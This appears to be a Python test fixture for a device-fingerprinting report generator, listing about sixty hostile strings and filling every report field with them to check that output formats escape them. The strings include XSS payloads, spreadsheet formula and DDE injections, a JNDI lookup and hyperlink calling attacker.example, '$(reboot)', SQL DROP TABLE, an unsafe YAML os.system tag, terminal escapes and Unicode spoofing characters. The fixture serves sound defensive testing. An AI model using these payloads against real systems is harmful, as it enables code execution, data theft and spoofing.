"""Some sixty texts that a hostile device may say, and a document in which devices say them wherever they can."""

from collections.abc import Iterator, Mapping, Sequence
from dataclasses import fields, is_dataclass, replace
from datetime import UTC, date, datetime
from enum import Enum

from fingerprints.model.component_kind import ComponentKind
from fingerprints.model.device import (
    AnotherGroup,
    ClaimRecord,
    Component,
    DeclaredBuilder,
    Device,
    DifferenceReason,
    Identity,
    Level,
    ModelOfPart,
    NamedOnPart,
    OnRecord,
    Party,
    QuotedText,
    Role,
    SerialOfPart,
    VendorDifference,
    Watched,
    WatchLevel,
    WithoutGroups,
)
from fingerprints.model.evidence import EvidenceGroup, Gap, GapReason
from fingerprints.model.merging import ApartBy, JoinedBy, KeptApart, MatchedBy, Merging
from fingerprints.model.neighbour import Neighbour, NeighbourProtocol
from reports.document.document import (
    AppliedPolicy,
    Coverage,
    Document,
    NotAssessed,
    PolicyLeftOut,
    ReportedDevice,
    ReportedFinding,
    ReportedLink,
    ReportedNeighbour,
    build,
)
from reports.judgement.run_info import JudgedBy, RunRecord, SilentRange
from reports.placement.placement import Origin, Placement
from reports.placement.sighting import Sighting
from reports.placement.topology import LinkKind
from reports.policy.action import Certainty
from reports.policy.verdict import Verdict
from reports.policy.vocabulary import Tier
from tests.unit.documents import HEADER, breakdown

TEXTS: Mapping[str, str] = {
    "script element": "<script>alert(1)</script>",
    "end of script": "</script><script>alert(1)//",
    "end of style": "</style><img src=x onerror=alert(1)>",
    "event handler": '"><svg/onload=alert(1)>',
    "single-quoted attribute": "' onmouseover='alert(1)",
    "javascript link": "javascript:alert(document.domain)",
    "data link": "data:text/html,<script>alert(1)</script>",
    "comment begins": "<!-- hidden",
    "comment ends": "--><b>bold</b>",
    "end of CDATA": "]]><x/>",
    "entity": "&lt;b&gt; &#x3c;b&#x3e; &unknown;",
    "entity of a bomb": '<!DOCTYPE x [<!ENTITY a "aa">]>&a;',
    "processing instruction": "<?xml version='1.1'?>",
    "end of textarea": "</textarea></title></template>",
    "rich string of a workbook": "<r><t>x</t></r></si></sst><r></r>",
    "escape of a workbook": "_x0000__x000D__x005F_",
    "formula": '=HYPERLINK("http://attacker.example","click")',
    "formula of plus": "+1+cmd|'/C calc'!A0",
    "formula of minus": "-2+3+cmd|'/C calc'!A0",
    "formula of at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "formula after blanks": "   =1+1",
    "formula after a tab": "\t=1+1",
    "formula after a line": "x\r\n=1+1",
    "formula after a no-break space": "\u00a0=1+1",
    "formula after a byte order mark": "\ufeff=1+1",
    "full-width formula": "＝1+1",
    "small formula": "﹦1+1",
    "raised formula": "⁼1+1",
    "minus sign": "−1+1",
    "command of DDE": "|calc",
    "percent": "%0a=1+1%0d",
    "formula after a semicolon": "x;=1+1;y",
    "formula after a semicolon and quotes": 'x;""=1+1"";y',
    "formula after a pipe": "x|=1+1|y",
    "break of CSV": '","=1+1","\r\n"=2',
    "window title": "\x1b]0;owned\x07",
    "colour": "\x1b[31mred\x1b[0m",
    "screen cleared": "\x1b[2J\x1b[H",
    "device control string": "\x1bP$q\x1b\\",
    "eight-bit controls": "\x9b31m\x9d0;owned\x9c\x90x\x9c",
    "backspaces": "safe\x08\x08\x08\x08evil",
    "carriage return": "evil\rsafe",
    "octet zero": "before\x00after",
    "delete": "a\x7fb",
    "right-to-left override": "safe\u202eexe.tpircs",
    "isolates": "\u2066a\u2069\u2067b\u2069",
    "zero width": "pay\u200bpal\u200d\u2060\ufeff",
    "tower of marks": "Z" + "\u0301\u0336" * 50 + "algo",
    "marks without a letter": "\u0308\u20dd name",
    "family of emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\ufe0f",
    "lone surrogates": "a\ud800b\udfff",
    "no characters": "\ufffe\uffff\U0001fffe",
    "separators of lines": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "tags": "\U000e0001\U000e0041\U000e007f",
    "template": "{{7*7}}{% raw %}{#",
    "lookup": "${jndi:ldap://attacker.example/a} $(reboot) `reboot`",
    "SQL": "'; DROP TABLE devices; --",
    "break of YAML": "a: b\n- c: !!python/object:os.system {}\n---\n...",
    "Markdown": "](javascript:alert(1)) ![x](http://attacker.example) | `` ``` <b> www.attacker.example\n# head",
    "mention": "@everyone #1 **bold** _x_ ~~y~~ [ ] - [x]",
    "labels of Prometheus": 'a"} 1\nfaked{b="c\\"} 2',
    "backslashes": "\\\\host\\share\\u0041\\x1b\\",
    "very long": "A" * 33_000 + "=1+1",
    "very long and hidden": "\u202e" * 6_000,
}
"""Each text by its name: markup, formulas, terminals, characters without a shape, and breaks of other formats."""


PART_KINDS = (ComponentKind.CHASSIS, ComponentKind.OPTIC)


def plain_texts() -> tuple[str, ...]:
    """As many harmless texts: what a format makes of them is the shape that hostile ones must not change."""
    return tuple(f"plain text {number:02d}" for number in range(len(TEXTS)))


def full_of(texts: Sequence[str]) -> Document:
    """A device for each text, which says it wherever a device can say something; and a target, a neighbour, a policy,
    a note and a word of the user's for each."""
    header = replace(
        HEADER,
        run=texts[0],
        data_version=texts[0],
        tool_version=texts[0],
        policies=(*HEADER.policies, *(_policy(number, text) for number, text in enumerate(texts))),
        policies_chosen=texts[0],
        coverage=Coverage(99, 98, 97, 96, tuple(SilentRange(text, 256, 4) for text in texts), cost=(("packets", 1.5),)),
        notes=tuple(texts),
        policies_left_out=tuple(PolicyLeftOut(text, text, text, text) for text in texts),
        record=_record(texts),
        judged_by=tuple(JudgedBy("zones", text, text) for text in texts),
    )
    document = build(
        header,
        (_judged(number, text) for number, text in enumerate(texts)),
        (NotAssessed(text, GapReason.NO_ANSWER, text) for text in texts),
    )
    return replace(
        document,
        seen_only_as_neighbour=tuple(map(_neighbour, texts)),
        links=(ReportedLink("dev-00", "dev-01", (texts[0],)),),
    )


def fields_without(value: object, text: str, path: str = "") -> Iterator[str]:
    """The fields of text, wherever they stand below `value`, that do not hold this text."""
    if isinstance(value, Enum):
        return
    if isinstance(value, str):
        if value != text:
            yield path
    elif is_dataclass(value):
        for field in fields(value):
            yield from fields_without(getattr(value, field.name), text, f"{path}.{field.name}")
    elif isinstance(value, tuple):
        for item in value:
            yield from fields_without(item, text, path)


def _policy(number: int, text: str) -> AppliedPolicy:
    """A policy of the operator's own file: its id is a plain word, which the reader of such files sees to."""
    return AppliedPolicy(
        f"own-{number:02d}",
        text,
        text,
        text,
        True,
        Certainty.OWN,
        notes=(text,),
        recalled_rules=(text,),
        status=text,
        until=date(2030, 1, 1),
        binds=(text,),
        roles=(text,),
        confidence=text,
        exceptions=(text,),
    )


def _record(texts: Sequence[str]) -> RunRecord:
    words = tuple(texts)
    begun, ended = datetime(2026, 11, 22, 2, 10, tzinfo=UTC), datetime(2026, 11, 22, 3, 52, tzinfo=UTC)
    return RunRecord(14, "scan", texts[0], begun, ended, words, words, texts[0], words, texts[0])


def _tie(text: str) -> Watched:
    party = Party(text, text)
    reasons = (
        QuotedText(text, text),
        NamedOnPart(ComponentKind.OPTIC, text, text),
        SerialOfPart(ComponentKind.OPTIC, text, text),
        ModelOfPart(ComponentKind.OPTIC, text, text),
        OnRecord(party, party, text, True, False, text),
        DeclaredBuilder(party),
    )
    return Watched(text, WatchLevel.PROBABLE, 0.9, (Role.MAKER,), reasons)


def _identity(text: str) -> Identity:
    party, group = Party(text, text), (EvidenceGroup.AGENT_TEXT,)
    difference = VendorDifference(party, group, party, (EvidenceGroup.LAYER_2,), DifferenceReason.SPOOFING)
    claims = tuple(ClaimRecord(role, text, text, text, text, 1.0, text) for role in Role)
    known = Identity(Level.PROBABLE, 0.9, party, party, party, party, text, text, text, text, text, claims)
    return replace(
        known,
        conflicts=(difference,),
        explained=(difference,),
        turning=(WithoutGroups(group, party), AnotherGroup(party, group)),
        breakdown=breakdown(party),
        owner=party,
        formerly=party,
    )


def _device(number: int, text: str) -> Device:
    party, protocol = Party(text, text), NeighbourProtocol.LLDP
    merging = Merging(
        (JoinedBy(MatchedBy.SERIAL, text, (text, text)),),
        (KeptApart(ApartBy.PLACEHOLDER, MatchedBy.SERIAL, text, (text,), 1),),
    )
    return Device(
        f"dev-{number:02d}",
        (text,),
        (text,),
        text,
        ((text, text),),
        _identity(text),
        (_tie(text),),
        tuple(Component(kind, text, party, text, text, (_tie(text),)) for kind in PART_KINDS),
        (Neighbour(protocol, text, text, text, text, text, (text,)),),
        (Gap(text, text, GapReason.MALFORMED, text),),
        merging=merging,
        command_line=text,
        fleet_site=text,
    )


def _judged(number: int, text: str) -> ReportedDevice:
    placement = Placement(True, Tier.CORE, text, Origin.DECLARED, *(text,) * 7)
    found = ReportedFinding("us-889a", text, Verdict.RESTRICTED, text, text, None, date(2026, 12, 31))
    of_part = replace(found, component=text[:120], deadline=None)
    findings = (found, of_part, replace(found, waiver=text), replace(of_part, verdict=Verdict.REVIEW))
    return ReportedDevice(_device(number, text), placement, findings, Verdict.RESTRICTED)


def _neighbour(text: str) -> ReportedNeighbour:
    sightings = (Sighting(text, text, text, LinkKind.LLDP, 2),)
    return ReportedNeighbour(text, text, text, text, Party(text, text), (_tie(text),), sightings, (text,), text)
